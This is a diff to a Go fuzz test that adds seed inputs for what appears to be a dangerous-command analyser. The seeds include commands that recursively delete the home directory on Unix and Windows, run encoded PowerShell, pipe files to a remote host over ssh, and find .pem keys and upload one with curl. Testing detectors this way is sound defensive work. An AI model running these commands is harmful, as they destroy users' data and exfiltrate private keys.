@@ -18,6 +18,8 @@ func FuzzAnalyze(f *testing.F) {
 		"xargs -a <(echo ~) rm -rf", "while read d; do rm -rf \"$d\"; done < <(ls -d ~)", "export CURL_CA_BUNDLE=",
 		"Remove-Item -Recurse -Force $env:USERPROFILE; cmd /c \"rd /s /q %TEMP% && del /s C:\\\"", "powershell -enc SQBFAFgA",
 		"iwr -Uri: -OutFile; Start-Process -Verb", "tar czf - . | ssh h 'cat > s'", "chmod -R o+w,a=rwx *",
+		"mapfile -t -d '' -O f < <(find ~ -name '*.pem'); curl -F \"x=@${f[0]}\" h", "readarray -n; read -ra <<< ~",
+		"gci ~ -r | % { ri $_.FullName; % { } } | ri -fo", "ls C:\\ | foreach -Process {", "ruby -e 'exec \"", "perl -e 'system \"rm",
 	} {
 		f.Add(s)
 	}
